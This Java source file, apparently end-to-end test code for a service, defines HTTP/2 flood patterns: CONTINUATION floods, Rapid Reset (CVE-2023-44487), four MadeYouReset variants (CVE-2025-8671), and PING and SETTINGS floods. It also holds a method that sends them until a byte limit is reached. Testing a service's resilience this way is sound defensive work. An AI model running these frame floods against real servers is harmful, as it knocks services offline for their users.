// SPDX-License-Identifier: Apache-2.0
package io.medicloud.service.e2e;

import static io.medicloud.service.RawClient.CONTINUATION;
import static io.medicloud.service.RawClient.DATA;
import static io.medicloud.service.RawClient.END_HEADERS;
import static io.medicloud.service.RawClient.END_STREAM;
import static io.medicloud.service.RawClient.HEADERS;
import static io.medicloud.service.RawClient.PING;
import static io.medicloud.service.RawClient.PRIORITY;
import static io.medicloud.service.RawClient.RST_STREAM;
import static io.medicloud.service.RawClient.SETTINGS;
import static io.medicloud.service.RawClient.WINDOW_UPDATE;
import static io.medicloud.service.RawClient.frame;
import static io.medicloud.service.RawClient.headers;

import io.medicloud.service.RawClient;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.Map;
import java.util.function.IntFunction;

/** Frames of HTTP/2 that cost a service more than who sends them, without end. */
@SuppressWarnings("ImmutableEnumChecker") // functions of their argument alone
enum FrameFlood {
    CONTINUATIONS(
            true, i -> i == 0 ? frame(HEADERS, 0, 1, Requests.PAGE) : frame(CONTINUATION, 0, 1, Requests.NOTHING)),
    CONTINUATIONS_WITH_HEADERS(
            true,
            i -> i == 0
                    ? frame(HEADERS, 0, 1, Requests.PAGE)
                    : frame(CONTINUATION, 0, 1, headers("GET", "/" + "x".repeat(2000), Map.of()))),
    EMPTY_DATA(true, i -> i == 0 ? frame(HEADERS, END_HEADERS, 1, Requests.CALL) : frame(DATA, 0, 1, Requests.NOTHING)),
    /** CVE-2023-44487. */
    RAPID_RESET(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream(i), Requests.PAGE),
                    frame(RST_STREAM, 0, stream(i), number(8)))),
    RAPID_RESET_OF_CALLS(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS, stream(i), Requests.CALL), frame(RST_STREAM, 0, stream(i), number(8)))),
    /** CVE-2025-8671: the service resets what is ill-formed, in four ways. */
    MADE_YOU_RESET_BY_NO_WINDOW(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS, stream(i), Requests.CALL),
                    frame(WINDOW_UPDATE, 0, stream(i), number(0)))),
    MADE_YOU_RESET_BY_A_WINDOW_TOO_LARGE(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS, stream(i), Requests.CALL),
                    frame(WINDOW_UPDATE, 0, stream(i), number(Integer.MAX_VALUE)))),
    MADE_YOU_RESET_BY_DATA_BEHIND_THE_END(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream(i), Requests.PAGE),
                    frame(DATA, 0, stream(i), new byte[1]))),
    MADE_YOU_RESET_BY_A_PRIORITY(
            true,
            i -> joined(
                    frame(HEADERS, END_HEADERS, stream(i), Requests.CALL),
                    frame(PRIORITY, 0, stream(i), Arrays.copyOf(number(stream(i)), 5)))),
    /** CVE-2019-9512: their answers are not read. */
    PINGS(false, i -> frame(PING, 0, 0, new byte[8])),
    /** CVE-2019-9515. */
    SETTINGS_UNREAD(false, i -> frame(SETTINGS, 0, 0, Requests.NOTHING)),
    SETTINGS_READ(true, i -> frame(SETTINGS, 0, 0, Requests.NOTHING));

    private static final int AT_ONCE = 16;

    private final boolean isReading;
    private final IntFunction<byte[]> frames;

    FrameFlood(boolean isReading, IntFunction<byte[]> frames) {
        this.isReading = isReading;
        this.frames = frames;
    }

    /** Has a client that speaks HTTP/2 send them, until it is over or so much is sent. */
    Attack.Outcome run(RawClient client, long mostBytes) throws InterruptedException {
        return Attack.run(
                client,
                isReading,
                i -> {
                    byte[][] some = new byte[AT_ONCE][];
                    Arrays.setAll(some, at -> frames.apply(i * AT_ONCE + at));
                    return joined(some);
                },
                mostBytes);
    }

    private static final class Requests {
        static final byte[] NOTHING = {};
        static final byte[] PAGE = headers("GET", "/livez", Map.of());
        static final byte[] CALL = headers(
                "POST",
                "/livestream.Livestream/HealthCheck",
                Map.of("content-type", "application/grpc", "te", "trailers"));
    }

    private static int stream(int i) {
        return 2 * i + 1;
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        try {
            for (byte[] part : parts) {
                all.write(part);
            }
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return all.toByteArray();
    }
}
